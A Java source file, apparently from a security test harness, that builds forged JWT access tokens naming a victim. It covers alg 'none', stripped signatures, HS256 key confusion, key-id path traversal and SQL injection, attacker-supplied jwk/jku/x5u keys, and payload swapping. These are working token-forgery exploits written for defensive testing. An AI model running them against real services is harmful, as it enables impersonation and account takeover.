package dev.cadastre.proof.attacks.auth;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSSigner;
import com.nimbusds.jose.crypto.ECDSASigner;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import com.nimbusds.jose.util.Base64URL;
import dev.cadastre.proof.Attack;
import dev.cadastre.proof.AttackTarget;
import dev.cadastre.proof.Tokens;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

/** Tokens of the victim that the issuer never signed. */
final class SignatureAttacks {

    private SignatureAttacks() {}

    static List<Attack> all() {
        return List.of(
                ForgedToken.reading(
                        "l2-alg-none",
                        "A token without a signature names the victim",
                        (target, claims) ->
                                Tokens.forged("{\"alg\":\"none\",\"typ\":\"at+jwt\"}", Tokens.json(claims), "")),
                ForgedToken.reading(
                        "l2-alg-none-spelt",
                        "The same, with 'none' spelt 'nOnE'",
                        (target, claims) ->
                                Tokens.forged("{\"alg\":\"nOnE\",\"typ\":\"at+jwt\"}", Tokens.json(claims), "")),
                ForgedToken.reading(
                        "l2-no-signature",
                        "A token of a good algorithm whose signature was cut off",
                        (target, claims) -> Tokens.forged(header(target, ""), Tokens.json(claims), "")),
                ForgedToken.reading(
                        "l2-hmac-public-key",
                        "A token signed by HS256 with the issuer's public key as the secret",
                        (target, claims) -> mac(
                                "{\"alg\":\"HS256\",\"kid\":\"%s\"}".formatted(kid(target)),
                                claims,
                                target.tokens().publicKey().toJSONString())),
                ForgedToken.reading(
                        "l2-kid-traversal",
                        "The key id is a path to an empty file, whose content signs the token",
                        (target, claims) ->
                                mac("{\"alg\":\"HS256\",\"kid\":\"../../../../dev/null\"}", claims, "\0".repeat(32))),
                ForgedToken.reading(
                        "l2-kid-injection",
                        "The key id is SQL that brings a key of its own",
                        (target, claims) -> mac(
                                "{\"alg\":\"HS256\",\"kid\":\"x' UNION SELECT '%s'--\"}".formatted("k".repeat(32)),
                                claims,
                                "k".repeat(32))),
                ForgedToken.reading(
                        "l2-strangers-key",
                        "A token signed with the attacker's key under the issuer's key id",
                        (target, claims) -> signed(header(target, ""), claims, otherKey())),
                ForgedToken.reading(
                        "l2-embedded-jwk", "The token brings the key it is signed with ('jwk')", (target, claims) -> {
                            ECKey own = otherKey();
                            String jwk = ",\"jwk\":" + own.toPublicJWK().toJSONString();
                            return signed(header(target, jwk), claims, own);
                        }),
                ForgedToken.reading(
                        "l2-jku",
                        "The token says where its key is to be had ('jku')",
                        (target, claims) ->
                                signed(header(target, ",\"jku\":\"http://127.0.0.1:9/jwks\""), claims, otherKey())),
                ForgedToken.reading(
                        "l2-x5u",
                        "The token says where its certificate is to be had ('x5u')",
                        (target, claims) ->
                                signed(header(target, ",\"x5u\":\"http://127.0.0.1:9/cert\""), claims, otherKey())),
                ForgedToken.reading(
                        "l2-altered", "The attacker's own token, with the victim written into it", (target, claims) -> {
                            String[] own = target.pair().attacker().token().split("\\.", -1);
                            return own[0] + "." + Base64URL.encode(Tokens.json(claims)) + "." + own[2];
                        }));
    }

    private static String kid(AttackTarget target) {
        return target.tokens().publicKey().getKeyID();
    }

    private static String header(AttackTarget target, String more) {
        return "{\"alg\":\"ES256\",\"typ\":\"at+jwt\",\"kid\":\"%s\"%s}".formatted(kid(target), more);
    }

    private static ECKey otherKey() throws JOSEException {
        return new ECKeyGenerator(Curve.P_256).generate();
    }

    private static String signed(String header, Map<String, Object> claims, ECKey key) throws JOSEException {
        return sign(header, claims, JWSAlgorithm.ES256, new ECDSASigner(key));
    }

    private static String mac(String header, Map<String, Object> claims, String secret) throws JOSEException {
        return sign(header, claims, JWSAlgorithm.HS256, new MACSigner(secret.getBytes(StandardCharsets.UTF_8)));
    }

    /** Over the header as it is, which no library would have let pass. */
    private static String sign(String header, Map<String, Object> claims, JWSAlgorithm algorithm, JWSSigner signer)
            throws JOSEException {
        String text = Base64URL.encode(header) + "." + Base64URL.encode(Tokens.json(claims));
        return text + "." + signer.sign(new JWSHeader(algorithm), text.getBytes(StandardCharsets.US_ASCII));
    }
}
